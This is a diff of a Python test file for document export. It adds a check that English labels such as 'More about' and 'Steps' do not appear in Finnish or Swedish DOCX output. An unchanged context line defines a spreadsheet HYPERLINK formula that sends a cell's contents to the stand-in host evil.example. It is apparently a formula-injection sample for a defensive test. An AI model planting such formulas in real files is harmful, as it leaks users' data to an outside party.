@@ -45,6 +45,16 @@ LANGUAGES = {
 NOTE = "Sopii Äänekoskelle ja Åboland-väelle: yöllä öljyä."
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")'
 SLUGS = ["mielikioski", "digimieli"]
+ENGLISH_LABELS = [
+    "Who gets the health benefit",
+    "Who the work is done with",
+    "Implementer:",
+    "Area:",
+    "Steps",
+    "Materials",
+    "More about",
+    "Why it fits",
+]
 
 
 def url(name, language, *args, query=""):
@@ -97,9 +107,9 @@ def test_docx_has_real_links_the_page_language_and_the_catalogue_as_author(
     text = "\n".join(paragraph.text for paragraph in document.paragraphs)
     assert NOTE in text  # ä, ö and å as typed
     assert f"{more}: " in text
-    if language != "en":
-        assert "More:" not in text
-        assert "More about" not in text
+    if language != "en":  # every label in the page's language
+        for label in [*ENGLISH_LABELS, "More:"]:
+            assert label not in text
     with translation.override(language):
         assert models[0].name in text
 
